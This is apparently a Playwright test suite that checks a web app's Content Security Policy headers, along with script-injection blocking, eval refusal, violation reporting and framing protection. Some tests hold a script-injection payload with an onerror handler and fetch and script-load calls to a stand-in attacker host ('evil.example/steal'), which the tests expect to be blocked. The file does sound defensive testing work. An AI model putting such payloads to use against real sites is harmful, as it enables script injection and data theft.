"""The pages under their security headers: everything works, nothing is complained of, and what was smuggled in does not run."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import NewTab

INJECT = """
() => {
  const script = document.createElement('script');
  script.textContent = 'window.injected = true';
  document.body.append(script);
  document.body.insertAdjacentHTML('beforeend', '<img id="planted" src="data:,x" onerror="window.injected = true">');
  return new Promise((settled) => setTimeout(() => settled(window.injected === true), 200));
}
"""


@pytest.fixture(params=["todo", "hello"])
def url(request: pytest.FixtureRequest) -> str:
    return str(request.getfixturevalue(f"{request.param}_url"))


@pytest.fixture
def page(new_tab: NewTab, url: str) -> Page:
    opened = new_tab()
    opened.goto(url)
    expect(opened.locator("main#app")).not_to_have_attribute("aria-busy", "true")
    return opened


def violations(page: Page) -> None:
    page.add_init_script(
        "window.violated = []; addEventListener('securitypolicyviolation', (event) => window.violated.push(event.violatedDirective))"
    )


def test_no_page_breaks_its_own_policy(new_tab: NewTab, url: str, complaints: list[str]) -> None:
    for path in ("/", "/deep/link", "/nothing.html"):
        page = new_tab()
        violations(page)
        answer = page.goto(f"{url}{path}")
        assert answer is not None
        assert "default-src 'self'" in answer.headers["content-security-policy"]
        page.wait_for_load_state("load")
        if path != "/nothing.html":
            expect(page.locator("main#app > [data-microapp]").first).to_be_visible()
        assert page.evaluate("window.violated") == []
    assert [complaint for complaint in complaints if "404" not in complaint] == []
    complaints.clear()  # that the missing page was missing


def test_an_injected_script_does_not_run(page: Page, complaints: list[str]) -> None:
    assert page.evaluate(INJECT) is False
    assert sum("Content Security Policy" in complaint for complaint in complaints) >= 2
    complaints.clear()


def test_what_was_refused_is_reported_to_the_platform(page: Page, complaints: list[str]) -> None:
    with page.expect_request("**/_/csp") as reported:
        page.evaluate("() => { const s = document.createElement('script'); s.textContent = '1'; document.body.append(s); }")
    answer = reported.value.response()
    assert answer is not None
    assert answer.status == 204
    complaints.clear()


def test_text_is_never_run_as_code(page: Page, complaints: list[str]) -> None:
    """`evaluate` itself goes around the policy, so a script of the page's own origin asks."""
    page.route(
        "**/probe.js", lambda route: route.fulfill(content_type="text/javascript", body="try{eval('window.ran=1')}catch(e){window.ran=e.name}")
    )
    page.add_script_tag(url="/probe.js")
    assert page.evaluate("window.ran") == "EvalError"
    complaints.clear()


def test_nothing_is_fetched_from_or_sent_to_elsewhere(page: Page, complaints: list[str]) -> None:
    page.route("https://evil.example/**", lambda route: route.fulfill(body="window.evil = true"))
    fetched = "fetch('https://evil.example/steal', {mode: 'no-cors'}).then(() => 'sent', (error) => error.name)"
    assert page.evaluate(fetched) == "TypeError"
    loaded = "new Promise((done) => { const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
    loaded += " s.onload = () => done('ran'); s.onerror = () => done('refused'); document.body.append(s); })"
    assert page.evaluate(loaded) == "refused"
    complaints.clear()


def test_the_page_cannot_be_framed(new_tab: NewTab, url: str, complaints: list[str]) -> None:
    page = new_tab()
    page.route("http://localhost:1/", lambda route: route.fulfill(content_type="text/html", body=f"<iframe src='{url}'></iframe>"))
    page.goto("http://localhost:1/")
    expect(page.locator("iframe")).to_be_attached()
    page.wait_for_timeout(300)
    assert all("main" not in (frame.content() if frame.url == f"{url}/" else "") for frame in page.frames[1:])
    complaints.clear()


def test_live_reload_still_listens(page: Page) -> None:
    listen = "new Promise((done) => { const s = new EventSource('/_/reload');"
    listen += " s.onopen = () => { s.close(); done('open'); }; s.onerror = () => done('refused'); })"
    assert page.evaluate(listen) == "open"


def test_a_missing_page_is_the_roots_own_and_404(new_tab: NewTab, url: str, complaints: list[str]) -> None:
    page = new_tab()
    answer = page.goto(f"{url}/old/page.html")
    assert answer is not None
    assert answer.status == 404
    expect(page.get_by_role("heading", name="There is no such page")).to_be_visible()
    complaints.clear()
